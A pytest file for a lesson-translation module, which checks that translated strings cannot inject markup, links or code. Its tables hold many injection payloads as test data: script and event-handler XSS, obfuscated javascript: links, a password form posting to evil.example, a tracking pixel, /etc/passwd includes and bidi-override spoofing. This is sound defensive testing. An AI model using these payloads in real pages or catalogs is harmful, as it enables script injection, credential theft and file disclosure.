"""Translators are strangers: each attack succeeds where the check is switched off, and fails where it is on."""

from __future__ import annotations

import re
from dataclasses import replace
from html.parser import HTMLParser

import markdown
import pytest

from catalyst_lessons.core.markup.writers import to_material
from catalyst_lessons.core.model import FrontMatter, Phrase
from catalyst_lessons.core.translation import translate
from catalyst_lessons.core.translation import translating as translation
from tests.translation.translation_cases import EXTENSIONS, catalog, lesson

_SPACE = re.compile(r"\s")


class _Tags(HTMLParser):
    """Everything a browser would act on: tags with their attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append(tag + "".join(f" {name}={_SPACE.sub('', value or '')}" for name, value in attrs))


def page(source: str) -> str:
    return markdown.markdown(to_material(source, title_of=str.title), extensions=EXTENSIONS)


def acted_on(source: str) -> str:
    parser = _Tags()
    parser.feed(page(source))
    return "\n".join(parser.found).lower()


ATTACKS = {
    "a script": ("Text", "<script>steal()</script>", "script"),
    "a script in one line of two": ("Text", "Texto <script src=//evil.example></script>", "src=//evil.example"),
    "an event attribute": ("Text", "<b onmouseover=steal()>Texto</b>", "onmouseover"),
    "an event on an image of its own": ("Text", "<img src=x onerror=steal()>", "onerror"),
    "an event on a tag that is there": ("<kbd>K</kbd>", "<kbd onclick=steal()>K</kbd>", "onclick"),
    "a javascript address": ("[a](b.md)", "[a](javascript:steal())", "javascript:"),
    "a javascript address in capitals": ("[a](b.md)", "[a](JaVaScRiPt:steal())", "javascript:"),
    "a javascript address with an entity": ("[a](b.md)", "[a](java&#115;cript:steal())", "javascript:"),
    "a javascript address with a named entity": ("[a](b.md)", "[a](javascript&colon;steal())", "javascript:"),
    "a javascript address as a link of its own": ("Text", "[Texto](javascript:steal())", "javascript:"),
    "a javascript address in angle brackets": ("Text", "<javascript:steal()>", "javascript:"),
    "a data address": ("![a](b.png)", "![a](data:text/html,<script>x</script>)", "src=data:"),
    "another target": ("[a](b.md)", "[a](https://evil.example)", "evil.example"),
    "another target on this site": ("[a](b.md)", "[a](../../c.md)", "c.md"),
    "another target by a title": ("[a](b.md)", '[a](https://evil.example "b.md")', "evil.example"),
    "another target on this site behind a space": ("[a](b.md)", "[a](b.md /../c.md)", "/../c.md"),
    "another target on this site behind an angle": ("[a](<b.md>)", "[a](<b.md>/../c.md)", "/../c.md"),
    "another target on this site behind a title": ("[a](b.md 't')", "[a](b.md 't' /../c.md)", "/../c.md"),
    "another target on this site behind half a bracket": ("[a](b.md)", "[a](>b.md)", "href=>b.md"),
    "another target on this site in brackets": ("[a](b.md)", "[a](b.md (/../c.md))", "/../c.md"),
    "an address as text": ("Text", "Texto <https://evil.example>", "evil.example"),
    "another target for a label": ("See [it][a].", "Vea [eso][b].", "evil.example"),
    "a definition of a label": ("Text\n\nSee [it][c].", "[c]: https://evil.example", "evil.example"),
    "an image that reports": ("Text", "Texto ![](https://evil.example/pixel.png)", "evil.example"),
    "raw HTML": ("Text", "</div><form action=//evil.example><input name=password>", "form"),
    "an iframe": ("Text", "<iframe src=//evil.example></iframe>", "iframe"),
    "a style": ("Text", "<p style=position:fixed>Texto</p>", "style"),
    "an attribute list on a line": ("Text", "Texto\n{: onclick=steal() }", "onclick"),
    "an attribute list in the line": ("*Text*", "*Texto*{: onclick=steal() }", "onclick"),
    "an attribute list on a link": ("[a](b.md)", "[a](b.md){: onclick=steal() }", "onclick"),
    "an attribute list on a heading": ("## Text", "Texto {: onclick=steal() }", "onclick"),
    "a heading where there was none": ("Text", "# Texto", "h1"),
    "a script in a role's words": ("H{sub}`2`O", "H{sub}`<script>steal()</script>2`O", "script"),
    "an event in a role that refers": ("{ref}`a <b>`", "{ref}`<img src=x onerror=steal()> a <b>`", "onerror"),
    "an address in a role that refers": ("{ref}`a <b>`", "{ref}`[a](https://evil.example) <b>`", "evil.example"),
    "a box where there was none": ("Text", "!!! danger\n    Texto", "admonition"),
    "code that is run where there was none": ("Text", "```{code-cell}\nsteal()\n```", "code"),
}
DEFINED = "\n\n[a]: a.md\n[b]: https://evil.example\n"


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_succeeds_without_the_check_and_fails_with_it(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    source, attack, mark = ATTACKS[name]
    more = DEFINED if "label." in attack or "[b]" in attack else ""
    before = lesson(source + more)
    text = translation.extract(before)[0].text
    built = translate(before, catalog({text: attack})).cells[0].source
    assert built == source + more
    assert mark not in acted_on(built).replace("evil.example", "" if more else "evil.example")
    monkeypatch.setattr(translation, "refused", lambda *_: False)
    # A message of one line has to bring its line breaks past the splicing as well.
    monkeypatch.setattr(translation, "edit", _as_it_is)
    assert mark in acted_on(translate(before, catalog({text: attack})).cells[0].source)


def _as_it_is(source, place, text):
    return translation.Edit(place.start, place.end, text)


UNSEEN = {
    "a Jinja expression": ("Text", "Texto {{ config.theme }}", "{{ config.theme }}"),
    "a Jinja statement": ("Text", "{% include '/etc/passwd' %}", "{% include"),
    "a macro in code": ("`a`", "`a` `{{ env }}`", "{{ env }}"),
    "a snippet": ("Text", '--8<-- "/etc/passwd"', "--8<--"),
    "a table of contents": ("Text", "[TOC]", "[TOC]"),
    "a bidirectional override": ("Text", "Texto \u202egpj.exe", "\u202e"),
    "a bidirectional isolate": ("Text", "Texto \u2066oculto\u2069", "\u2066"),
    "a control character": ("Text", "Texto \x02klzzwxh:0\x03", "\x02"),
    "an include directive": ("Text", ":::{include} /etc/passwd\n:::", "{include}"),
    "a role that reads a file": ("Text", "Texto {download}`/etc/passwd`", "{download}"),
    "a footnote": ("Text", "Texto[^evil]", "[^evil]"),
    "a new column": ("| a |\n|---|\n| b |", "x | <y>", "x | <y>"),
    "a target of another kind": ("Text", '(x" onmouseover="steal&#40;&#41;" y)=', "(x"),
    "a text that vanishes": ("Text 50%", "%50 texto", "%50"),
    "front matter in the text": ("Text", "---\nhooks: evil.py\n---", "hooks:"),
}


@pytest.mark.parametrize("name", UNSEEN)
def test_what_a_browser_does_not_show_fails_too(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    source, attack, mark = UNSEEN[name]
    before = lesson(source)
    text = translation.extract(before)[0].text if translation.extract(before) else source
    assert mark not in translate(before, catalog({text: attack})).cells[0].source
    monkeypatch.setattr(translation, "refused", lambda *_: False)
    monkeypatch.setattr(translation, "edit", _as_it_is)
    out = translate(before, catalog({text: attack})).cells[0].source
    assert mark in out or text == "`a`"


@pytest.mark.parametrize(
    "attack", ["Uno\nhooks: evil.py", "Uno\r\nhooks: evil.py", "Uno\u2028hooks: x", "{{ env }}", "<script>x</script>"]
)
def test_front_matter_takes_no_key_and_no_markup(attack: str, monkeypatch: pytest.MonkeyPatch) -> None:
    from catalyst_lessons.core.translation.applying import apply_catalog
    from catalyst_lessons.files.sources import read_whole

    before = replace(lesson("Text"), front=FrontMatter(title=Phrase("One")))
    assert translate(before, catalog({"One": attack})).front.title.text == "One"
    text = "---\ntitle: One\n---\n\nText\n"
    assert apply_catalog(text, read_whole(text, "x.md"), catalog({"One": attack})).text == text
    monkeypatch.setattr(translation, "refused", lambda *_: False)
    assert translate(before, catalog({"One": attack})).front.title.text != "One"
    # Even unchecked, no key comes in: what is written there is one text.
    assert set(
        read_whole(apply_catalog(text, read_whole(text, "x.md"), catalog({"One": attack})).text, "x.md").front.lines
    ) == {"title"}


@pytest.mark.parametrize("name", ["../../etc/passwd", "lessons/../../x", "/etc/passwd"])
def test_a_catalog_names_no_path(name: str, tmp_path) -> None:
    """Paths come from the sources alone: what `#:` says is never opened."""
    from catalyst_lessons.files.catalogs import read_catalog

    (tmp_path / "x.po").write_text(
        f'msgid ""\nmsgstr "Content-Type: text/plain; charset=UTF-8\\n"\n\n#: {name}\nmsgid "One"\nmsgstr "Uno"\n'
    )
    found = read_catalog(tmp_path, "x.po", "es")
    assert name not in repr(found)


def test_a_comment_in_code_brings_no_code_in() -> None:
    from catalyst_lessons.core.model import Cell, Lesson

    code = Cell("code", "x = 1  # one\n", "c", (1, 2))
    before = Lesson("x.py", (code,), comments=True)
    for attack in ("uno\nimport os", "uno\rimport os", "uno\x0cimport os", "uno\u2028import os", "uno\\\nimport os"):
        out = translate(before, catalog({"one": attack})).cells[0].source
        assert "\nimport" not in out and "\rimport" not in out
        assert compile(out, "x", "exec").co_names == ("x",)
